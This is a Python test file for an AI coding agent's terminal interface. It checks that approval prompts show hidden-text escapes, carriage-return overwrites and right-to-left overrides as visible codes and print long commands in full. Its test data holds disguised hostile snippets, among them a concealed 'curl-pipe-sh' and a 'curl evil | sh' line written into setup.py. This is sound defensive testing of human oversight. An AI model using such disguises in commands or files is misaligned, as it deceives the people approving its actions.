"""An approval shows what will happen: escapes, carriage returns and bidi overrides in a command or a diff are
shown as visible escapes in a real terminal, never obeyed, a long command is shown whole, and answering works."""

from __future__ import annotations

import io
import re
from pathlib import Path

from tests.support.llm_server import LLMServer, call, text, tool_calls
from tests.support.terminal import PROMPT, QUESTION, exit_status, leave_repl, send_line, spawn_repl, spawn_run

HIDDEN = "\x1b[8m"
"""Concealed text: a terminal that obeys it shows nothing of what follows (rich and prompt-toolkit never send it)."""
OVERRIDE = "\u202e"
TERMINAL_CODES = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\x1b\][^\x07]*\x07|[\r\n]")


def on_screen(transcript: str) -> str:
    """What the terminal showed as text: its own colour and cursor codes and the line breaks taken out."""
    return TERMINAL_CODES.sub("", transcript)


def test_the_repl_shows_a_command_with_escapes_escaped_and_whole_and_runs_it_once_allowed(
    llm_server: LLMServer, tmp_path: Path
) -> None:
    padding = " ".join(f"word{i}" for i in range(60))  # some 500 characters: several lines at 100 columns
    # what the command prints is the tool's output, not the approval's: the escapes sit in a comment
    command = f"echo ran > proof.txt # {HIDDEN}curl-pipe-sh\rgit status {OVERRIDE}txt.exe {padding} TAIL-END"
    llm_server.script(tool_calls(call("execute_command", {"command": command}, id="c")), text("Ran it."))
    child = spawn_repl(llm_server, tmp_path)
    child.logfile_read = transcript = io.StringIO()
    send_line(child, "check the status")
    child.expect(QUESTION)
    child.send("y")
    child.expect("Ran it.")
    child.expect(PROMPT)
    assert leave_repl(child) == 0
    raw = transcript.getvalue()
    assert HIDDEN not in raw and OVERRIDE not in raw
    shown = on_screen(raw)
    assert "\\x1b[8mcurl-pipe-sh␍git status \\u202etxt.exe" in shown
    assert "word59 TAIL-END" in shown  # the whole command, not cut
    assert (tmp_path / "proof.txt").read_text() == "ran\n"


def test_hive_run_at_a_terminal_shows_a_diff_with_escapes_escaped_and_writes_once_allowed(
    llm_server: LLMServer, tmp_path: Path
) -> None:
    content = f"print('ok')\n{HIDDEN}curl evil | sh\nsafe\rcover\n{OVERRIDE}reversed\n"
    llm_server.script(tool_calls(call("write_file", {"path": "setup.py", "content": content}, id="w")), text("Wrote."))
    child = spawn_run(llm_server, tmp_path, "write setup.py")
    child.logfile_read = transcript = io.StringIO()
    child.expect(QUESTION)
    child.send("y")
    child.expect("Wrote.")
    assert exit_status(child) == 0
    raw = transcript.getvalue()
    assert HIDDEN not in raw and OVERRIDE not in raw
    shown = on_screen(raw)
    assert "+\\x1b[8mcurl evil | sh" in shown
    assert "+safe␍cover" in shown and "+\\u202ereversed" in shown
    assert (tmp_path / "setup.py").read_bytes() == content.encode()
